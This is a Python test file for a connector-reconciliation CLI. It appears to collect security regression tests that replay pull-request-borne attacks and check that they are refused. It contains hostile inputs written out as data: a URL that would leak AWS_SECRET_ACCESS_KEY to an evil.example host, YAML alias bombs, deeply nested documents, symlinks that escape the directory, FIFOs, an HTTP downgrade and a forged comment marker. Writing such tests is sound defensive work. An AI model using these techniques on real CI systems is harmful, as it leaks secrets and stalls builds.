"""Seams between today's merges, found using the tool as a newcomer, an attacker and a CI engineer.

Each test is one finding: it failed on main before its fix."""
from __future__ import annotations

import time

from conftest import run_cli

KEY = "qa-seams-key-5511"
TOKEN = "qa-seams-token-8f3e"
CI_SECRET = "ci-only-secret-77d1e"


def write(tmp_path, text: str):
    path = tmp_path / "connectors.yaml"
    path.write_text(text)
    return path


AIRWEAVE_AT = """version: 1
providers:
  aw:
    type: airweave
    url: {url}
    api_key: ${{KEY}}
connectors:
  docs-slack:
    provider: aw
    source: slack
    target: docs-ab123
    credentials:
      type: oauth_token
      access_token: ${{TOKEN}}
"""


def test_a_provider_url_cannot_print_a_ci_variable(tmp_path):
    """A pull request sets ``url: https://${AWS_SECRET_ACCESS_KEY}.evil.example``: the allowed-host
    refusal named the host, and so printed the CI's secret in the job log. Values read from the
    environment into any non-secret field (not only connector fields) are shown masked."""
    path = write(tmp_path, AIRWEAVE_AT.format(url="https://${AWS_SECRET_ACCESS_KEY}.evil.example/"))
    env = {"KEY": KEY, "TOKEN": TOKEN, "AWS_SECRET_ACCESS_KEY": CI_SECRET}
    for command in ("plan", "drift", "status"):
        result = run_cli(command, str(path), env=env)
        assert result.code == 1, result.output
        assert "Traceback" not in result.output
        assert "refusing to send credentials to '(from $AWS_SECRET_ACCESS_KEY).evil.example'" in result.stderr
        assert CI_SECRET not in result.output


def test_a_url_variable_the_ci_marks_public_is_still_shown(tmp_path):
    path = write(tmp_path, AIRWEAVE_AT.format(url="https://${CORP_HOST}/"))
    env = {"KEY": KEY, "TOKEN": TOKEN, "CORP_HOST": "airweave.corp.example", "RECONCILE_PUBLIC_VARS": "CORP_HOST"}
    result = run_cli("plan", str(path), env=env)
    assert result.code == 1 and "refusing to send credentials to 'airweave.corp.example'" in result.stderr


def test_fmt_refuses_an_alias_bomb_at_once(tmp_path):
    """Nine lines of nested aliases expand to 9**9 nodes: validate refused them, but ``fmt --check``
    (the pre-commit hook) walked every expanded node and never finished."""
    levels = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for prev, name in zip("abcdefgh", "bcdefghi"):
        levels.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    path = write(tmp_path, "\n".join(levels) + "\nversion: 1\n")
    before = path.read_text()
    started = time.monotonic()
    result = run_cli("fmt", "--check", str(path), timeout=60)
    assert time.monotonic() - started < 30
    assert result.code == 1 and "Traceback" not in result.output
    assert "YAML aliases expand to more than 100000 nodes" in result.stderr
    assert path.read_text() == before


def test_fmt_still_formats_a_manifest_with_a_few_aliases(tmp_path):
    path = write(tmp_path, "version: 1\nx: &s [a, b]\ny: *s\n")
    result = run_cli("fmt", "--check", str(path))
    assert "aliases expand" not in result.output and "Traceback" not in result.output


CAPI = """version: 1
providers:
  capi:
    type: connectors-api
    url: ${CAPI_URL}
    api_key: ${KEY}
connectors:
  documents:
    provider: capi
    source: s3
    target: col_abc123
    scope:
      bucket: my-documents
      region: us-east-1
    credentials:
      accessKeyId: ${TOKEN}
      secretAccessKey: ${TOKEN}
"""


def test_status_shows_the_connectors_api_last_sync(emulator, tmp_path):
    """The Connectors API lists no jobs, but its connector carries ``lastSync``: after a completed
    ``sync --wait``, ``status`` said ``never run``."""
    emu = emulator("connectors-api", api_key=KEY, targets=["col_abc123"])
    path = write(tmp_path, CAPI)
    env = {"KEY": KEY, "TOKEN": TOKEN, "CAPI_URL": emu.url}
    assert run_cli("apply", str(path), "--yes", env=env).code == 0
    before = run_cli("status", str(path), env=env)
    assert before.code == 0 and "never run" in before.stdout, before.output
    synced = run_cli("sync", str(path), "--wait", "--timeout", "30s", env=env)
    assert synced.code == 0, synced.output
    after = run_cli("status", str(path), env=env)
    assert after.code == 0, after.output
    row = next(line for line in after.stdout.splitlines() if line.startswith("documents "))
    assert "completed 20" in row and "never run" not in row, after.stdout


NANGO_NO_TYPE = """version: 1
providers:
  nango:
    type: nango
    url: https://api.nango.dev
    api_key: ${KEY}
connectors:
  acme-slack:
    provider: nango
    source: slack-prod
    credentials:
      access_token: ${TOKEN}
"""


def test_nango_credentials_without_type_get_one_error_not_three_shapes(tmp_path):
    """Each credential shape's ``if`` matched when ``type`` was missing (JSON Schema's ``if`` holds
    for an absent property), so the user was told to add apiKey, username and password too."""
    result = run_cli("validate", "--no-env", str(write(tmp_path, NANGO_NO_TYPE)))
    assert result.code == 1 and "Traceback" not in result.output
    assert "connectors.yaml:11:5: missing required key 'type' in credentials" in result.stderr
    assert "apiKey" not in result.stderr and "username" not in result.stderr
    assert "error: 1 error in the manifests" in result.stderr


def test_a_state_block_without_backend_is_not_told_about_postgres(tmp_path):
    text = NANGO_NO_TYPE.replace("      access_token:", "      type: OAUTH2\n      access_token:") \
        + "state:\n  path: state.json\n"
    result = run_cli("validate", "--no-env", str(write(tmp_path, text)))
    assert result.code == 1, result.output
    assert "missing required key 'backend' in state" in result.stderr
    assert "dsn" not in result.stderr and "postgres" not in result.stderr, result.stderr


def quickstart(tmp_path):
    import shutil

    from conftest import ROOT

    shutil.copy(ROOT / "examples" / "quickstart" / "connectors.yaml", tmp_path / "connectors.yaml")
    return tmp_path / "connectors.yaml"


def test_a_saved_plan_of_the_wrong_shape_is_refused_not_a_traceback(tmp_path):
    """``apply PLANFILE`` read fields of the saved plan without checking them: an artifact that is
    truncated or edited (actions null, an unknown action) ended in TypeError/KeyError/ValueError."""
    import json

    path = quickstart(tmp_path)
    plan = tmp_path / "plan.json"
    assert run_cli("plan", str(path), "--sandbox", "-o", str(plan)).code == 0
    good = json.loads(plan.read_text())
    broken = {"null-actions": {**good, "actions": None},
              "unknown-action": {**good, "actions": [{**good["actions"][0], "action": "nuke"}]},
              "options-list": {**good, "options": []}}
    for label, doc in broken.items():
        bad = tmp_path / f"{label}.json"
        bad.write_text(json.dumps(doc))
        result = run_cli("apply", str(bad))
        assert result.code == 1 and "Traceback" not in result.output, (label, result.output)
        assert f"{bad}: not a plan file `reconcile plan -o` wrote" in result.stderr, (label, result.stderr)
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    result = run_cli("apply", str(deep))
    assert result.code == 1 and "Traceback" not in result.output and "not a readable plan file" in result.stderr
    # the real one still applies
    result = run_cli("apply", str(plan))
    assert result.code == 0 and "Apply complete! Connectors: 2 added" in result.stdout, result.output


def test_a_state_nested_beyond_the_json_parser_is_a_state_error(tmp_path):
    path = quickstart(tmp_path)
    state = tmp_path / ".reconcile" / "sandbox" / "state.json"
    assert run_cli("apply", str(path), "--sandbox").code == 0
    good = state.read_text()
    for target, where in ((state, "it is not JSON"), (state.with_name("state.json.journal"), "journal line 1 is not JSON")):
        state.write_text(good)
        target.write_text("[" * 100_000 + "]" * 100_000 + "\n")
        result = run_cli("plan", str(path), "--sandbox")
        assert result.code == 1 and "Traceback" not in result.output, result.output
        assert "error: state " in result.stderr and where in result.stderr, result.stderr
        target.unlink()


def test_state_push_checks_entries_as_a_load_does(tmp_path):
    """``state push`` accepted an entry whose fields were not an object (and crashed on a list):
    the pushed state then broke every later command."""
    import json

    path = quickstart(tmp_path)
    assert run_cli("apply", str(path), "--sandbox").code == 0
    pulled = json.loads(run_cli("state", "pull", str(path), "--sandbox").stdout)
    for label, body in (("list", [1]), ("fields", {**pulled["connectors"]["quickstart-slack"], "fields": "zz"})):
        doc = {**pulled, "connectors": {**pulled["connectors"], "quickstart-slack": body}}
        pushed = tmp_path / f"{label}.json"
        pushed.write_text(json.dumps(doc))
        result = run_cli("state", "push", str(path), str(pushed), "--sandbox")
        assert result.code == 1 and "Traceback" not in result.output, (label, result.output)
        assert "connector 'quickstart-slack' is not a valid entry" in result.stderr, (label, result.stderr)
    assert run_cli("plan", str(path), "--sandbox", "--detailed-exitcode").code == 0


def test_import_from_a_per_target_platform_asks_for_a_target(tmp_path):
    """Airstore and Aimable list per workspace/collection. With no connector declared on them yet
    (the usual first import), import listed nothing and said "every connector on airstore is
    managed already" while two were live and unmanaged."""
    import shutil

    from conftest import ROOT

    path = tmp_path / "main.yaml"
    shutil.copy(ROOT / "examples" / "airstore" / "main.yaml", path)
    assert run_cli("apply", str(tmp_path), "--sandbox").code == 0
    assert run_cli("state", "rm", str(tmp_path), "team-gmail", "alice-exa", "--sandbox").code == 0
    text = path.read_text()
    path.write_text(text[:text.index("connectors:")])

    result = run_cli("import", str(tmp_path), "--provider", "airstore", "--sandbox")
    assert result.code == 1 and "Traceback" not in result.output, result.output
    assert "Nothing to import" not in result.output
    assert "airstore (airstore) lists connectors per target" in result.stderr and "--target" in result.stderr

    result = run_cli("import", str(tmp_path), "--provider", "airstore", "--target", "ws_abc123", "--sandbox")
    # the member connection cannot be imported (Airstore returns only its internal member number)
    assert result.code == 0 and "Wrote 1 connector to" in result.stdout and "Adopted" in result.stdout, result.output
    assert run_cli("fmt", "--check", str(tmp_path)).code == 0
    assert run_cli("validate", "--no-env", str(tmp_path)).code == 0
    assert run_cli("plan", str(tmp_path), "--sandbox", "--detailed-exitcode").code == 0


def test_a_refused_value_read_from_a_ci_variable_is_not_quoted_back(tmp_path):
    """Validation errors quote the value they refuse: ``target: "${AWS_SECRET_ACCESS_KEY}"`` fails
    the target pattern, and validate (or the PR's plan job) printed the CI's secret."""
    text = AIRWEAVE_AT.format(url="https://api.airweave.ai").replace(
        "target: docs-ab123", 'target: "${AWS_SECRET_ACCESS_KEY}"\n    schedule:\n      cron: "${AWS_SECRET_ACCESS_KEY}"')
    path = write(tmp_path, text)
    env = {"KEY": KEY, "TOKEN": TOKEN, "AWS_SECRET_ACCESS_KEY": "Ci/Only Secret+Value=1"}
    for command in ("validate", "plan"):
        result = run_cli(command, str(path), env=env)
        assert result.code == 1 and "Traceback" not in result.output, result.output
        assert "target: '(from $AWS_SECRET_ACCESS_KEY)'" in result.stderr, result.stderr
        assert "cron '(from $AWS_SECRET_ACCESS_KEY)'" in result.stderr, result.stderr
        assert "Ci/Only" not in result.output and "Secret+Value" not in result.output


def test_a_manifest_cannot_downgrade_the_official_host_to_plain_http(tmp_path):
    """``allow_insecure_http`` is the manifest's to set: a pull request wrote ``url:
    http://api.airweave.ai`` with it, and the plan job would send the API key in clear text."""
    path = write(tmp_path, AIRWEAVE_AT.format(url="http://api.airweave.ai").replace(
        "    api_key:", "    allow_insecure_http: true\n    api_key:"))
    env = {"KEY": KEY, "TOKEN": TOKEN, "RECONCILE_HTTP_TIMEOUT": "1"}
    for command in (["plan"], ["apply", "--yes"]):
        result = run_cli(*command, str(path), env=env)
        assert result.code == 1 and "Traceback" not in result.output, result.output
        assert "connectors.yaml:5:10: provider 'aw' (airweave): api.airweave.ai is the platform's official API, " \
               "which is served over https only" in result.stderr, result.stderr


def test_a_reconcileignore_linking_out_of_the_directory_is_not_read(tmp_path):
    """Manifests that are symlinks out of the directory are refused, but ``.reconcileignore`` was
    followed: a pull request linking it to a runner file got that file's lines quoted back in the
    'Invalid git pattern' error (and /proc/self/environ was read as patterns)."""
    import os

    outside = tmp_path / "outside.txt"
    outside.write_text("RUNNER-ONLY-LINE\\\n")
    repo = tmp_path / "repo"
    repo.mkdir()
    quickstart(repo)
    os.symlink(outside, repo / ".reconcileignore")
    for command in (["validate", "--no-env"], ["fmt", "--check"]):
        result = run_cli(*command, str(repo))
        assert result.code == 1 and "Traceback" not in result.output, result.output
        assert "RUNNER-ONLY-LINE" not in result.output
        assert ".reconcileignore:1:1: is a symlink to" in result.stderr and "outside the manifest directory" in result.stderr
    (repo / ".reconcileignore").unlink()
    os.mkfifo(repo / ".reconcileignore")
    result = run_cli("validate", "--no-env", str(repo), timeout=30)
    assert result.code == 1 and "is a FIFO, not a .reconcileignore file" in result.stderr, result.output
    (repo / ".reconcileignore").unlink()
    (repo / "patterns.txt").write_text("docker-compose.yml\n")
    os.symlink("patterns.txt", repo / ".reconcileignore")  # inside the directory: fine
    assert run_cli("validate", "--no-env", str(repo)).code == 0


def test_a_sandbox_directory_linking_out_gets_no_emulator_data(tmp_path):
    """The state path check refused ``.reconcile/sandbox`` as a symlink, but only after the sandbox
    emulators had started and written their data through it, outside the manifest directory."""
    import os

    outside = tmp_path / "outside"
    outside.mkdir()
    repo = tmp_path / "repo"
    repo.mkdir()
    path = quickstart(repo)
    (repo / ".reconcile").mkdir()
    os.symlink(outside, repo / ".reconcile" / "sandbox")
    for command in (["plan"], ["apply"], ["status"]):
        result = run_cli(*command, str(path), "--sandbox")
        assert result.code == 1 and "Traceback" not in result.output, result.output
        assert "outside the manifest directory" in result.stderr, result.stderr
    assert list(outside.iterdir()) == []


def test_fmt_refuses_deep_nesting_with_its_position(tmp_path):
    """3,000 nested lists (the hostile corpus' deep-nesting-lists.yaml) took fmt seconds of ruamel
    recursion before 'not valid YAML (maximum recursion depth exceeded)'; validate's limit applies."""
    from conftest import ROOT

    started = time.monotonic()
    result = run_cli("fmt", "--check", str(ROOT / "tests" / "hostile" / "deep-nesting-lists.yaml"))
    assert result.code == 1 and "Traceback" not in result.output
    assert "deep-nesting-lists.yaml:13:79: nesting deeper than 64 levels" in result.stderr, result.stderr
    assert time.monotonic() - started < 3


def test_sync_skips_a_connector_waiting_for_oauth(tmp_path):
    """examples/connectors-api as shipped: its Notion connector waits for the OAuth consent, and
    ``sync --wait`` counted it as failed (exit 1, the raw 409) while apply and status say "waits
    for authorization: open URL"."""
    import shutil

    from conftest import ROOT

    shutil.copy(ROOT / "examples" / "connectors-api" / "main.yaml", tmp_path / "main.yaml")
    assert run_cli("apply", str(tmp_path), "--sandbox").code == 0
    result = run_cli("sync", str(tmp_path), "--sandbox", "--wait", "--timeout", "60s")
    assert result.code == 0, result.output
    assert "team-notion (connectors: connectors-api): skipped: team-notion waits for authorization: open https://" \
        in result.stdout, result.stdout
    assert "Sync: 2 completed, 0 failed, 0 cancelled, 1 skipped." in result.stdout


def test_a_state_path_that_is_a_fifo_is_refused_not_waited_on(tmp_path):
    """``--state`` naming a FIFO (or /dev/stdin in a CI script) hung every command on the open."""
    import os

    path = quickstart(tmp_path)
    fifo = tmp_path / "state.fifo"
    os.mkfifo(fifo)
    env = {"AIRWEAVE_API_KEY": KEY, "QUICKSTART_GITHUB_TOKEN": TOKEN, "QUICKSTART_SLACK_TOKEN": TOKEN}
    for command in (["state", "list"], ["plan"]):
        result = run_cli(*command, str(path), "--state", str(fifo), env=env, timeout=30)
        assert result.code == 1 and "Traceback" not in result.output, result.output
        assert f"state {fifo}: it is not a regular file" in result.stderr, result.stderr


def _comment_script() -> str:
    import yaml

    from conftest import ROOT

    action = yaml.safe_load((ROOT / "action.yml").read_text())
    [step] = [s for s in action["runs"]["steps"] if s.get("name") == "Post or update the plan comment"]
    return step["with"]["script"]


def _run_comment_script(tmp_path, comments: list[dict], authenticated: str | None) -> list[tuple]:
    """The action's github-script under node, with GitHub's client mocked: the calls it makes."""
    import json
    import shutil
    import subprocess

    import pytest

    node = shutil.which("node")
    if node is None:
        pytest.skip("node is not installed")
    (tmp_path / "plan.md").write_text("### reconcile plan\n")
    harness = """
const calls = [];
const comments = %s, me = %s;
const github = {
  paginate: async (fn, args) => comments,
  rest: {
    issues: {
      listComments: () => {},
      updateComment: async (a) => calls.push(['update', a.comment_id]),
      createComment: async (a) => calls.push(['create', a.issue_number]),
    },
    users: { getAuthenticated: async () => { if (!me) throw new Error('403'); return { data: { login: me } }; } },
  },
};
const context = { sha: 'abcdef0123456', repo: { owner: 'o', repo: 'r' }, issue: { number: 7 } };
(async () => { %s
  console.log(JSON.stringify(calls)); })().catch(e => { console.error(e); process.exit(1); });
""" % (json.dumps(comments), json.dumps(authenticated), _comment_script())
    (tmp_path / "harness.js").write_text(harness)
    proc = subprocess.run([node, "harness.js"], cwd=tmp_path, capture_output=True, text=True, timeout=30)
    assert proc.returncode == 0, proc.stderr
    return [tuple(c) for c in json.loads(proc.stdout)]


def test_the_pr_comment_updated_is_the_actions_own(tmp_path):
    """The action updated the first comment starting with its marker, whoever wrote it: a PR author
    who posts that marker first gets the plan written into their own comment, which they can then
    edit into a fake "No changes" that reviewers read as the action's."""
    marker = "<!-- reconcile-plan -->"
    forged = {"id": 1, "body": marker + " mine", "user": {"login": "attacker", "type": "User"}}
    ours = {"id": 2, "body": marker + "\n### reconcile plan", "user": {"login": "github-actions[bot]", "type": "Bot"}}
    assert _run_comment_script(tmp_path, [forged], None) == [("create", 7)]
    assert _run_comment_script(tmp_path, [forged, ours], None) == [("update", 2)]
    # a personal token: its own user's comment
    mine = {"id": 3, "body": marker, "user": {"login": "ci-user", "type": "User"}}
    assert _run_comment_script(tmp_path, [forged, ours, mine], "ci-user") == [("update", 3)]


def test_fmt_names_a_recursive_alias_instead_of_blaming_itself(tmp_path):
    """tests/hostile/alias-recursive.yaml (``loop: &loop [*loop]``): fmt said "formatting would
    change the file's meaning ... (please report this with the file)"."""
    from conftest import ROOT

    result = run_cli("fmt", "--check", str(ROOT / "tests" / "hostile" / "alias-recursive.yaml"))
    assert result.code == 1 and "Traceback" not in result.output and "please report" not in result.output
    assert "alias-recursive.yaml:2:7: a YAML alias inside its own anchor makes an endless structure" in result.stderr


def test_fmt_reads_every_hostile_manifest_without_crashing_or_stalling():
    """The corpus went through validate, plan and apply, never through fmt (the pre-commit hook
    and the action's validate step run it on a PR's files): each file is formatted or refused with
    a FormatError, quickly."""
    from conftest import ROOT
    from reconciler.formatting import FormatError, format_text

    slow = []
    for path in sorted((ROOT / "tests" / "hostile").rglob("*")):
        if not path.is_file() or path.is_symlink():
            continue
        try:
            text = path.read_text(encoding="utf-8")
        except UnicodeDecodeError:
            continue  # fmt refuses it before formatting (not UTF-8 text)
        started = time.monotonic()
        try:
            format_text(text, name=str(path))
        except FormatError:
            pass
        if time.monotonic() - started > 2:
            slow.append(path.name)
    assert slow == []
